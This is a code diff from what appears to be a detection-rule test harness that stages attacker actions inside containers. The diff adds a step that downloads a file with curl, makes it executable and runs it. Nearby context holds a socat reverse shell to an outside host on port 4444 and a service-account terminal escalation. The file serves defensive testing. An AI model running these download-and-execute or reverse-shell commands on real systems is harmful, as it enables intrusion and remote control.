@@ -16,6 +16,16 @@ const initialAccess: readonly Action[] = [
   onHost('initial-access', 'a service account gets a terminal', ['setpriv', '--reuid', '33', '--regid', '33', '--clear-groups', 'script', '--quiet', '--command', 'id', '/dev/null'], { own: ['Terminal of a service account'], official: [], note: 'the official rule asks for sshd or login among the ancestors' }, { env: { SHELL: '/bin/sh' } }),
 ];
 
+const download: Action = {
+  name: 'a file is downloaded, made executable and started', tactic: 'execution', where: 'container', official: ['Drop and execute new binary in container'],
+  own: ['Downloaded file executed', 'File in a temporary directory made executable', dropped],
+  play: async (scene) => {
+    await scene.inContainer(['/usr/bin/curl', 'save', '/var/tmp/payload']);
+    await scene.inContainer(['chmod', '755', '/var/tmp/payload']);
+    return await scene.inContainer(['/var/tmp/payload']);
+  },
+};
+
 const execution: readonly Action[] = [
   inside('execution', 'a shell by a session', ['/bin/sh', '-c', 'id'], { own: [shellInside], official: [], note: 'the official rule asks for a terminal' }),
   inside('execution', 'a shell by a session with a terminal', ['/bin/bash', '-c', 'id'], { own: [shellInside], official: ['Terminal shell in container'] }, { terminal: true }),
@@ -27,4 +37,4 @@ const execution: readonly Action[] = [
   inside('execution', 'socat with EXEC', ['/usr/bin/socat', `TCP:${outside}:4444`, 'EXEC:/bin/sh'], { own: ['Netcat hands over a program'], official: [netTool] }),
 ];
 
-export const gettingIn: readonly Action[] = [...initialAccess, ...execution];
+export const gettingIn: readonly Action[] = [...initialAccess, ...execution, download];
